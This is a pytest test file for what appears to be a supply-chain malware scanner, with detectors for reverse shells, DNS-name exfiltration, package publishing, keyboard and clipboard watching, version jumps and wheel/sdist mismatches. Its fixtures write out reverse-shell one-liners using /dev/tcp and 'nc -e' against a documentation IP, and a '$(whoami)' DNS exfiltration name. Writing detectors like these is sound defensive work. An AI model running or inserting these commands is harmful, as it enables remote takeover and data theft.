"""The words and shapes by which shells, publishing, host names and versions are told, at their edges."""

from collections.abc import Mapping
from datetime import timedelta

import pytest
from msgspec.structs import replace

from lazaretto.core.facts import Flow, Kind, Moment, Reach
from lazaretto.core.model import Artifact, ArtifactKind, Release
from lazaretto.core.update import ArtifactView, Pair
from lazaretto.detectors import (
    artifacts_disagree,
    data_in_dns_name,
    prompt_for_reviewer,
    publishes_packages,
    reverse_shell_added,
    second_runtime_fetched,
    user_watched,
    version_out_of_habit,
)
from lazaretto.detectors.data_in_dns_name import is_made_of_data
from lazaretto.detectors.publishes_packages import publishes
from lazaretto.detectors.reverse_shell_added import is_bare_shell, says_reverse_shell
from tests.detectors.updates import NOW, fact, release, update, view

PLAIN = view({"index.js": "1\n"}, {"index.js": ()}, {"index.js": Reach.IMPORT})


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npm publish", True),
        ("npm --registry x --access public publish", True),
        ("pnpm publish -r", True),
        ("python -m twine upload dist/x", True),
        ("npm run publish", False),
        ("npm install publish-helper", False),
        ("echo publishing", False),
        (None, False),
    ],
)
def test_what_publishes(command: str | None, expected: bool) -> None:
    """A script of that name, or a package, publishes nothing by itself."""
    assert publishes(command) is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", True),
        ("nc -e /bin/sh 203.0.113.9 4444", True),
        ("nc -z db.invalid 5432", False),
        ("bash -c '</dev/tcp/db.invalid/5432'", False),
        (None, False),
    ],
)
def test_what_is_a_reverse_shell_by_its_words(command: str | None, expected: bool) -> None:
    """To ask whether a port is open is none."""
    assert says_reverse_shell(command) is expected


def test_a_bare_shell_has_nothing_to_do() -> None:
    """A shell with a command of its own waits for nobody."""
    assert is_bare_shell("/bin/bash -i")
    assert is_bare_shell("cmd.exe")
    assert not is_bare_shell("bash -c ls")
    assert not is_bare_shell(None)


@pytest.mark.parametrize(
    ("address", "line", "found"),
    [("203.0.113.9:4444", 3, 1), ("localhost:4444", 3, 0), ("https://api.invalid", 3, 0), (None, 3, 0), ("x:1", 90, 0)],
)
def test_a_shell_beside_a_connection(address: str | None, line: int, found: int) -> None:
    """Only a raw connection to elsewhere, close by, is its keyboard."""
    facts = (fact(Kind.PROCESS_SPAWN, "sh -i", 4), fact(Kind.NET_CONNECT, address, line))
    after = view({"index.js": "1\n" * 99}, {"index.js": facts}, {"index.js": Reach.IMPORT})

    assert len(list(reverse_shell_added.detect(update(PLAIN, after)))) == found
    assert list(reverse_shell_added.detect(update(after, after))) == []


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("*.names.collect.invalid", True),
        ("{}.names.collect.invalid", True),
        ("$(whoami).names.collect.invalid", True),
        ("_dmarc.*", False),
        ("api.invalid", False),
        ("*.in-addr.arpa", False),
        ("*.service.consul", False),
    ],
)
def test_names_made_of_data(name: str, expected: bool) -> None:
    """A fixed label before an unknown domain asks after that domain; a local name goes nowhere."""
    assert is_made_of_data(name) is expected


def test_first_contact_asks_only_what_runs_by_itself() -> None:
    """A library of its trade does on call what an installer must not do."""
    called = (
        fact(Kind.DNS_QUERY, "*.names.collect.invalid", moment=Moment.CALL),
        fact(Kind.USER_WATCH, "clipboard", moment=Moment.CALL),
        fact(Kind.RUNTIME_FETCH, "bun", moment=Moment.CALL),
        fact(Kind.PROCESS_SPAWN, "npm publish", moment=Moment.CALL),
        fact(Kind.LITERAL_URL, "https://r.invalid/-/npm/v1/tokens", moment=Moment.CALL),
    )
    library = view({"index.js": "1\n"}, {"index.js": called}, {"index.js": Reach.IMPORT})
    for detector in (data_in_dns_name, user_watched, second_runtime_fetched, publishes_packages):
        assert list(detector.detect(update(None, library))) == []
    again = view({"index.js": "1\n"}, {"index.js": (*called, *called)}, {"index.js": Reach.INSTALL})
    assert list(second_runtime_fetched.detect(update(library, again))) == []


def _versions(after: str, *older: str) -> list[str]:
    line = tuple(release(version) for version in older)
    now = release(after)
    found = version_out_of_habit.detect(update(PLAIN, PLAIN, releases=(*line, now), after=now))
    return [finding.variant for finding in found]


def test_versions_without_times_or_numbers() -> None:
    """Without a habit, a time or a number nothing is said; who leapt before may leap again."""
    old = tuple(f"1.{n}.0" for n in range(8))

    assert _versions("9.0.0", *old) == ["leap"]
    assert _versions("9.0.0", *old[:3]) == []
    assert _versions("9.0.0", "0.1.0", "0.2.0", *(f"7.{n}.0" for n in range(8))) == []
    assert _versions("v9", *(f"v{n}" for n in range(8))) == []


def test_a_line_that_was_woken_before_may_be_woken_again() -> None:
    """Back-ports to an old line are a habit once one was made."""
    old = [release(f"1.{n}.0", published=NOW - timedelta(days=4000 - n)) for n in range(7)]
    newer = [
        release("2.0.0", published=NOW - timedelta(days=3000)),
        release("2.1.0", published=NOW - timedelta(days=9)),
    ]
    port = release("1.7.0", published=NOW - timedelta(days=1000))
    now = release("1.9.0", published=NOW)

    def found(*line: Release) -> list[str]:
        return [f.variant for f in version_out_of_habit.detect(update(PLAIN, PLAIN, releases=(*line, now), after=now))]

    assert found(*old, *newer) == ["woken-line"]
    assert found(*old, port, *newer) == []


def test_what_only_one_artifact_does() -> None:
    """What both do is no disagreement; nor is a file more in a line whose builds add files, or in its sources."""

    def pair(kind: ArtifactKind, before: Mapping[str, str], after: Mapping[str, str]) -> Pair:
        def side(files: Mapping[str, str]) -> ArtifactView:
            facts = {p: [fact(Kind.PROCESS_SPAWN, word) for word in text.split()] for p, text in files.items()}
            artifact = Artifact(f"x.{kind.value}", kind, "")
            return replace(view(files, facts, dict.fromkeys(files, Reach.IMPORT)), artifact=artifact)

        return Pair(side(before), side(after))

    def found(wheel: Pair, sdist: Pair) -> list[str]:
        both = replace(update(PLAIN, PLAIN), pairs=(wheel, sdist))
        return [place.decoded or "" for one in artifacts_disagree.detect(both) for place in one.evidence]

    plain = {"a.py": ""}
    wheel, sdist = ArtifactKind.WHEEL, ArtifactKind.SDIST
    assert found(pair(wheel, plain, {"a.py": "ls id"}), pair(sdist, plain, {"src/a.py": "ls"})) == ["id"]
    assert found(pair(wheel, plain, plain), pair(sdist, plain, {**plain, "setup.py": "ls"})) == []
    built = {**plain, "b.py": ""}
    assert found(pair(wheel, built, {**built, "c.py": "ls"}), pair(sdist, plain, plain)) == []
    assert found(pair(wheel, plain, {**plain, "c.py": "ls"}), pair(sdist, plain, plain)) == ["ls"]
    assert found(pair(wheel, plain, {**plain, "c.py": "ls"}), Pair(None, pair(sdist, plain, plain).after)) == []


def test_what_is_read_and_told_once() -> None:
    """A document that quotes such words, and what is taken but goes nowhere by itself, are left alone."""
    quoting = view({"README.md": "1\n"}, {"README.md": [fact(Kind.PROMPT, "override")]})
    assert list(prompt_for_reviewer.detect(update(PLAIN, quoting))) == []
    assert list(prompt_for_reviewer.detect(update(None, quoting))) == []

    taken = (fact(Kind.USER_WATCH, "keyboard"), fact(Kind.NET_CONNECT, "https://api.invalid", 2))
    for how, reach, expected in (
        ("scope", Reach.IMPORT, ["first-contact"]),
        ("data", Reach.IMPORT, ["taken-away"]),
        ("data", Reach.CALL, []),
    ):
        flows = {"index.js": (Flow(0, 1, how),)}
        after = view({"index.js": "1\n2\n"}, {"index.js": taken}, {"index.js": reach}, flows=flows)
        assert [f.variant for f in user_watched.detect(update(None, after))] == expected

    fetching = view({"index.js": "1\n"}, {"index.js": [fact(Kind.RUNTIME_FETCH, "bun")]}, {"index.js": Reach.IMPORT})
    assert list(second_runtime_fetched.detect(update(PLAIN, fetching))) == []
